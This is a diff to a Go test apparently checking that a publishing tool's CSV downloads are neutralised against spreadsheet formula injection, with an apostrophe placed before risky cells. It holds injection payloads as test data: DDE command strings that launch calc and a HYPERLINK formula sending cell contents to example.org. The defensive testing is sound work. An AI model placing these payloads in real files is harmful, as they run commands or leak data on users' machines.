@@ -12,10 +12,10 @@ import (
 	"github.com/iaptpub/iaptpub/evaluation/synth"
 )
 
-// Text from outside (a provider's code in the export, provider names in the national
-// publication) that a spreadsheet would run as a formula reaches every download with an
-// apostrophe in front; numbers, signed ones included (the costs' changes), are
-// untouched. The payloads
+// Text from outside that a spreadsheet would run as a formula (provider names in the
+// national publication) reaches every download with an apostrophe in front; numbers,
+// signed ones included (the costs' changes), are untouched. A provider's code in the
+// export never gets that far: one that is not an ODS code is a row error. The payloads
 // are the tester's.
 func TestDownloadsAreSafeInASpreadsheet(t *testing.T) {
 	root := t.TempDir()
@@ -34,9 +34,12 @@ func TestDownloadsAreSafeInASpreadsheet(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	results, _, err := Compute(exportDir, iaptpub.Sources, export.Options{}, "")
+	results, report, err := Compute(exportDir, iaptpub.Sources, export.Options{}, "")
 	if err != nil {
 		t.Fatal(err)
+	}
+	if report.LeftOut() == 0 {
+		t.Fatal("the rows of provider +CMD|x!A0 were read: it is not an ODS code")
 	}
 	national := strings.NewReplacer(
 		"ABOVE BOTH", `"=HYPERLINK(""http://example.org/?leak=""&A1,""Click"")"`, // quoted for CSV
@@ -56,7 +59,6 @@ func TestDownloadsAreSafeInASpreadsheet(t *testing.T) {
 	}
 
 	want := map[string]bool{ // every payload, as it must appear
-		`'+CMD|X!A0`: false, // the reader writes codes in capitals
 		`'=HYPERLINK("http://example.org/?leak="&A1,"Click")`: false,
 		`'+cmd|' /C calc'!A0`:          false,
 		`'@SUM(1+1)*cmd|' /C calc'!A0`: false,
@@ -71,6 +73,9 @@ func TestDownloadsAreSafeInASpreadsheet(t *testing.T) {
 		rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
 		if err != nil {
 			t.Fatalf("%s: %v", name, err)
+		}
+		if strings.Contains(strings.ToUpper(string(data)), "CMD|X!A0") {
+			t.Errorf("%s holds the provider code +CMD|x!A0, which the reader refuses", name)
 		}
 		for i, row := range rows {
 			for _, cell := range row {
